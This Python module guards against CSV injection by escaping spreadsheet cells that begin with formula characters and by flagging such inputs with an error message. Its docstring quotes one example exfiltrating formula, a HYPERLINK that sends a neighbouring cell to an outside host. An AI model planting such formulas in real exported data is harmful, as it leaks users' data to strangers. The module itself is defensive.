"""Cells a spreadsheet would run as a formula, and how to write them so that it shows them instead.

A CSV opened in Excel, LibreOffice or Google Sheets runs a cell that starts with `=`, `+`,
`-` or `@` (and, in some of them, a tab or a carriage return first) as a formula:
`=HYPERLINK("http://…"&A1,"W")` in an outlet's name sends the neighbouring cell to a stranger
when clicked (CSV injection, as OWASP describes it). Every CSV the project writes for people
to download or open passes its cells through `neutralise`, which prefixes such a cell with an
apostrophe: the spreadsheet then shows the text as typed and runs nothing. A plain number
("-5", "+12.5") is left as it is: it is a number, not a formula.

Inputs the project records (an outlet, a headline) are refused instead by their writers, with
`formula_problem` naming what is wrong, so that the recorded data stays the text as received.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping

#: The first characters that make a spreadsheet read a cell as a formula (OWASP's list), and
#: their full-width forms, which some spreadsheets fold to the ASCII ones.
FORMULA_START = frozenset("=+-@\t\r" + "\uff1d\uff0b\uff0d\uff20")

_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def is_formula(cell: object) -> bool:
    """Whether a spreadsheet would run `cell` as a formula rather than show it."""
    text = "" if cell is None else str(cell)
    return bool(text) and text[0] in FORMULA_START and not _NUMBER.fullmatch(text)


def neutralise(cell: object) -> str:
    """`cell` as text that a spreadsheet shows as typed: an apostrophe before a formula."""
    text = "" if cell is None else str(cell)
    return "'" + text if is_formula(text) else text


def neutralise_row(row: Mapping[str, object]) -> dict[str, str]:
    """Every cell of `row` neutralised (see `neutralise`)."""
    return {key: neutralise(value) for key, value in row.items()}


def neutralise_rows(rows: Iterable[Iterable[object]]) -> list[list[str]]:
    """Every cell of every row neutralised, for csv.writer."""
    return [[neutralise(cell) for cell in row] for row in rows]


def neutralise_csv(data: bytes) -> bytes:
    """A UTF-8 CSV as offered for download: every cell a spreadsheet would run as a formula gets
    an apostrophe first, so that it is shown as typed; every other byte is kept."""
    text = data.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    if not any(is_formula(cell) for row in rows for cell in row):
        return data
    out = io.StringIO(newline="")
    newline = "\r\n" if "\r\n" in text else "\n"
    csv.writer(out, lineterminator=newline).writerows(neutralise_rows(rows))
    return out.getvalue().encode("utf-8")


def formula_problem(cell: object) -> str | None:
    """Why `cell` may not be recorded as it is (it would run as a formula), or None."""
    if not is_formula(cell):
        return None
    text = str(cell)
    first = {"\t": "a tab", "\r": "a carriage return"}.get(text[0], repr(text[0]))
    return (
        f"starts with {first}, which a spreadsheet runs as a formula; "
        "write it without that first character"
    )
